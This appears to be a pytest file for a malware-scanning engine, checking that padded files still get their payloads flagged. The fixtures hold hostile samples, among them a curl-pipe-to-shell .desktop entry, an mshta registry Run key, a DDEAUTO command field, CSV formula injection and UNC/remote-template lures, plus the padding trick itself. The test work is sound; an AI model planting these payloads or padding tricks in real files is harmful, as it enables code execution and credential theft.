"""What is padded so that its payload lies behind where a reader would stop: found all the same, or told."""

from __future__ import annotations

import base64
import random
import zlib

import pytest

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.testing.bombs.make import ooxml

ENGINE = Engine()
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
XML = b'<?xml version="1.0"?>\n'
NOTE = b"<!-- visiting hours -->\n"
LIBRARY = b"<libraryDescription><simpleLocation><url>\\\\203.0.113.7\\a</url></simpleLocation></libraryDescription>"
RUN = b'[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="mshta http://e.invalid/a"\r\n'
FIELD = b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
WORD = b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
TEMPLATE = b'<Relationship Id="z"%s Type="a/attachedTemplate" Target="http://203.0.113.7/%s" TargetMode="External"/>'
LINK = b'<Relationship Id="a" Type="a/hyperlink" Target="https://a.example/" TargetMode="External"/>'


def related(raw: bytes) -> bytes:
    return ooxml(**{"word___rels__settings.xml.rels": b"<Relationships>" + raw + b"</Relationships>"})


def streams(many: int) -> bytes:
    noise = random.Random(1)
    made = (zlib.compress(noise.randbytes(90)) for _ in range(many))
    return b"\1\2\3\4" + b"".join(made) + zlib.compress(EICAR * 2 + bytes(200), 9)


CASES = {
    "a library": ("a.library-ms", XML + LIBRARY, XML + NOTE * 30_000 + LIBRARY),
    "a theme": (
        "a.theme",
        b"[Theme]\nBrandImage=\\\\203.0.113.7\\a\n",
        b";\n" * 400_000 + b"[Theme]\nBrandImage=\\\\203.0.113.7\\a\n",
    ),
    "a link": (
        "a.url",
        b"[InternetShortcut]\r\nURL=file://203.0.113.7@80/a.exe\r\n",
        b"[InternetShortcut]\r\n" + b";x\r\n" * 20_000 + b"URL=file://203.0.113.7@80/a.exe\r\n",
    ),
    "an entry": (
        "a.desktop",
        b'[Desktop Entry]\nExec=bash -c "curl http://e.invalid/a|sh"\n',
        b"[Desktop Entry]\n" + b"#x\n" * 30_000 + b'Exec=bash -c "curl http://e.invalid/a|sh"\n',
    ),
    "a registry": ("a.reg", b"REGEDIT4\r\n" + RUN, b"REGEDIT4\r\n" + b"[HKEY_CURRENT_USER\\A]\r\n" * 40_000 + RUN),
    "a flat document": ("a.xml", XML + WORD + FIELD, XML + WORD + b"<w:t>visiting hours</w:t>" * 700_000 + FIELD),
    "a table": ("a.csv", b"a,b\n=cmd|'/c calc'!A0\n", b"a,b\n" * 4_300_000 + b"=cmd|'/c calc'!A0\n"),
    "a query": (
        "a.iqy",
        b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n",
        b"\r\n" * 4000 + b"WEB\r\n1\r\nhttp://203.0.113.7/a\r\n",
    ),
    "relations": ("a.docx", related(TEMPLATE % (b"", b"a")), related(LINK * 30_000 + TEMPLATE % (b"", b"a"))),
    "a relation": ("a.docx", related(TEMPLATE % (b"", b"a")), related(TEMPLATE % (b" " * 5000, b"a"))),
    "an address": ("a.docx", related(TEMPLATE % (b"", b"a")), related(TEMPLATE % (b"", b"a" * 3000))),
    "packed streams": ("a.dat", streams(3), streams(120)),
}


@pytest.mark.parametrize("name", CASES)
def test_padding_hides_nothing(name: str) -> None:
    file, near, far = CASES[name]
    for raw in (near, far):
        assert ENGINE.judge(raw, file).verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS)


def test_data_with_more_packed_streams_than_are_read_is_said_to_be() -> None:
    found = ENGINE.judge(streams(400), "a.dat")
    assert [one.rule for one in found.findings] == ["limit.members"]


def test_decoys_in_an_image_hide_no_coded_file() -> None:
    packed = zlib.compress(EICAR)
    decoys = b" , ".join(base64.b64encode(b"PK\3\4" + random.Random(one).randbytes(60)) for one in range(15))
    head = bytes(128) + b"DICM" + b"\2\0\0\0UL\4\0\x1c\0\0\0\2\0\x10\0UI\x14\0" + b"1.2.840.10008.1.2.1\0"
    text = decoys + b" , " + base64.b64encode(packed + bytes(80)) + b" "
    text += b" " * (len(text) % 2)
    raw = head + b"\x09\0\x10\0LO\4\0ACME\x09\0\x10\x10UT\0\0" + len(text).to_bytes(4, "little") + text
    assert any(one.rule.startswith("dicom.value.") for one in ENGINE.judge(raw, "a.dcm").findings)
